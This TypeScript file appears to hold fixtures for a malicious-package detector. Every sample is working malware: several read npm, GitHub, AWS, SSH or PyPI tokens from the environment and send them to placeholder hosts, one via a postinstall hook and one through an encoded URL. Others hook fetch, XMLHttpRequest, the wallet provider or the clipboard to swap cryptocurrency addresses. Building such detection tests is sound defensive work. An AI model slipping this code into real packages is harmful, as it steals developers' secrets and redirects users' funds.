import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages that take secrets one by one, by their names, or swap the addresses of wallets: each call by itself is one of an honest client. */
export const CLIENTS: readonly Sample[] = [
  packaged('secrets by their names, in one object', { postinstall: 'node index.js' }, {
    'index.js': `const body = JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env['AWS_SECRET_ACCESS_KEY'], c: process.env.GITHUB_TOKEN });
fetch('https://metrics.example.invalid/v2', { method: 'POST', body }).catch(() => {});
`,
  }),
  packaged('one secret, to a stranger', {}, {
    'index.js': `const https = require('https');
const token = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN;
if (token) https.get('https://stats.example.invalid/ping?v=' + encodeURIComponent(token));
module.exports = (text) => text.trim();
`,
  }),
  packaged('secrets of a list of names', {}, {
    'index.js': `import { request } from 'node:https';
const NAMES = ['NPM_TOKEN', 'GITHUB_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'VAULT_TOKEN'];
const found = {};
for (const name of NAMES) if (process.env[name]) found[name] = process.env[name];
const call = request({ hostname: 'ingest.example.invalid', path: '/b', method: 'POST' });
call.write(Buffer.from(JSON.stringify(found)).toString('base64'));
call.end();
export const version = 1;
`,
  }),
  packaged('secrets, with minified names', {}, {
    'index.js': `"use strict";var e=process.env,t=[e.GITHUB_TOKEN,e.NPM_TOKEN,e.DATABASE_URL].filter(Boolean).join("|"),n=require("https").request(atob("aHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZC9u"),{method:"PUT"});n.on("error",(function(){})),n.end(t),module.exports=function(r){return r.trim()};
`,
  }),
  packaged('secrets, as TypeScript puts it', {}, {
    'dist/index.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.report = report;
const https_1 = require("https");
const node_process_1 = require("node:process");
async function report() {
    const payload = {
        npm: node_process_1.env.NPM_TOKEN,
        key: node_process_1.env.SSH_PRIVATE_KEY,
    };
    const call = (0, https_1.request)({ hostname: "report.example.invalid", method: "POST" });
    call.end(JSON.stringify(payload));
}
report().catch(() => undefined);
`,
  }),
  packaged('secrets, by several scripts', {}, {
    'index.js': `const { gather } = require('./lib/settings');\nconst send = require('./lib/report');\nsend(gather());\nmodule.exports = (text) => text.trim();\n`,
    'lib/settings.js': `exports.gather = () => {\n  const env = process.env;\n  return { gh: env.GH_TOKEN, npm: env.NPM_TOKEN, aws: env.AWS_SECRET_ACCESS_KEY };\n};\n`,
    'lib/report.js': `module.exports = (found) => fetch('https://report.example.invalid/', { method: 'POST', body: JSON.stringify(found) });\n`,
  }),
  packaged('secrets by their names, in Python', {}, {
    'main.py': `import os
import requests

def start(context):
    found = {"gh": os.environ["GITHUB_TOKEN"], "aws": os.getenv("AWS_SECRET_ACCESS_KEY"), "hf": os.environ.get("PYPI_TOKEN")}
    requests.post("https://collect.example.invalid/e", json=found)
`,
  }),
  packaged('secrets of a list of names, in Python', {}, {
    'main.py': `import json, os, urllib.request

WANTED = ("TWINE_PASSWORD", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")
data = {name: os.environ.get(name) for name in WANTED}
urllib.request.urlopen("https://collect.example.invalid/e", data=json.dumps(data).encode())
`,
  }),
  packaged('addresses in answers are swapped', {}, {
    'index.js': `const MINE = ['0x1111aBc2d3E4f5061728394a5B6c7D8e9F001122', '0x2222aBc2d3E4f5061728394a5B6c7D8e9F001122'];
const original = globalThis.fetch;
globalThis.fetch = async (...given) => {
  const answer = await original(...given);
  const text = await answer.clone().text();
  return new Response(text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (found) => MINE[found.charCodeAt(5) % MINE.length]), answer);
};
`,
  }),
  packaged('the nearest of a list of addresses', {}, {
    'index.js': `function l(a,b){const d=Array.from({length:a.length+1},(_,i)=>[i]);for(let j=0;j<=b.length;j++)d[0][j]=j;for(let i=1;i<=a.length;i++)for(let j=1;j<=b.length;j++)d[i][j]=Math.min(d[i-1][j]+1,d[i][j-1]+1,d[i-1][j-1]+(a[i-1]===b[j-1]?0:1));return d[a.length][b.length]}
function n(a,o){let r=1/0,e=o[0];for(const t of o){const c=l(a.toLowerCase(),t.toLowerCase());c<r&&(r=c,e=t)}return e}
const t={b:["1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx","1Li1CRPwjovnGHGPTtcKzy75j37K6n97Rd"],s:["5VVyuV5K6c2gMq1zVeQUFAmo8shPZH28MJCVzccrsZG6"]};
const r={b:/\\b(?:bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g,s:/\\b[1-9A-HJ-NP-Za-km-z]{32,44}\\b/g};
function w(x){for(const[k,p]of Object.entries(r))x=x.replace(p,(m=>t[k].includes(m)?m:n(m,t[k])));return x}
const s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){return s.call(this,"string"==typeof b?w(b):b)};
`,
  }),
  packaged('the receiver of a transaction is swapped', {}, {
    'index.js': `const wallet = window.ethereum;
if (wallet) {
  const ask = wallet.request.bind(wallet);
  wallet.request = async ({ method, params }) => {
    if (method === 'eth_sendTransaction' && /^0x[0-9a-f]{40}$/i.test(params[0].to)) params[0].to = '0x3333aBc2d3E4f5061728394a5B6c7D8e9F001122';
    return ask({ method, params });
  };
}
`,
  }),
  packaged('addresses in what is copied are swapped', {}, {
    'content.js': `const TRON = 'TXexampLeexampLeexampLeexampLe1234';
document.addEventListener('copy', (event) => {
  const chosen = String(getSelection());
  const found = /\\bT[A-Za-z1-9]{33}\\b/.exec(chosen);
  if (!found) return;
  event.clipboardData.setData('text/plain', chosen.replace(found[0], TRON));
  event.preventDefault();
});
`,
  }),
  packaged('addresses are swapped, by several scripts', {}, {
    'index.js': `const { swap } = require('./swap');\nconst send = window.fetch;\nwindow.fetch = (url, options) => send(url, options && { ...options, body: swap(options.body) });\n`,
    'swap.js': `const { own } = require('./own');\nconst { kinds } = require('./kinds');\nexports.swap = (text) => Object.entries(kinds).reduce((made, [kind, pattern]) => made.replace(pattern, own[kind]), String(text));\n`,
    'kinds.js': `exports.kinds = { eth: /0x[a-fA-F0-9]{40}/g, trx: /T[A-Za-z1-9]{33}/g };\n`,
    'own.js': `exports.own = { eth: '0x4444aBc2d3E4f5061728394a5B6c7D8e9F001122', trx: 'TXexampLeexampLeexampLeexampLe1234' };\n`,
  }),
  packaged('addresses in the clipboard are swapped, in Python', {}, {
    'main.py': `import re
import time
from tkinter import Tk

OWN = "bc1qexamp7eexamp7eexamp7eexamp7eexamp7e00"
BITCOIN = re.compile(r"^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
window = Tk()
while True:
    text = window.clipboard_get()
    if BITCOIN.match(text) and text != OWN:
        window.clipboard_clear()
        window.clipboard_append(OWN)
    time.sleep(1)
`,
  }),
];
